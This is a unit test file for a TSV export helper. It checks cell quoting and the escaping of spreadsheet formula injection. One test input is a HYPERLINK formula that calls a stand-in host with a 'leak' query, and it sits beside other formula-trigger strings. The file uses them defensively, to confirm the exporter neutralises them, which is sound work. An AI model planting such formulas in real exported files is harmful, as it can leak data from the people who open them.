import { describe, expect, it } from 'vitest'
import { toTsv, tsvCell } from './tsv'

describe('toTsv', () => {
  it('joins cells with tabs and rows with CRLF, nulls empty', () => {
    expect(
      toTsv([
        ['a', 'b'],
        ['1', null]
      ])
    ).toBe('a\tb\r\n1\t\r\n')
    expect(toTsv([])).toBe('')
  })

  it('quotes cells holding tabs, line breaks or quotes, doubling the quotes', () => {
    expect(tsvCell('x\ty')).toBe('"x\ty"')
    expect(tsvCell('two\nlines')).toBe('"two\nlines"')
    expect(tsvCell('cr\rlf')).toBe('"cr\rlf"')
    expect(tsvCell('say "hi"')).toBe('"say ""hi"""')
    expect(tsvCell("O'Neil, 5%")).toBe("O'Neil, 5%")
  })

  it('neutralises text a spreadsheet would run as a formula, as the CSV exports do; numbers stay numbers', () => {
    expect(tsvCell('=HYPERLINK("http://x.test/?leak","go")')).toBe('"\'=HYPERLINK(""http://x.test/?leak"",""go"")"')
    for (const s of ['+1 vote', '-2 kg', '@here', '=1+1']) expect(tsvCell(s)).toBe(`'${s}`)
    expect(tsvCell('\tindented')).toBe(`"'\tindented"`)
    expect(tsvCell('\rreturn')).toBe(`"'\rreturn"`)
    expect(tsvCell('a=b')).toBe('a=b')
    expect(tsvCell({ numeric: '-3' })).toBe('-3')
    expect(tsvCell({ numeric: '+1.5' })).toBe('+1.5')
    expect(toTsv([['-3', { numeric: '-3' }, null]])).toBe("'-3\t-3\t\r\n")
  })
})
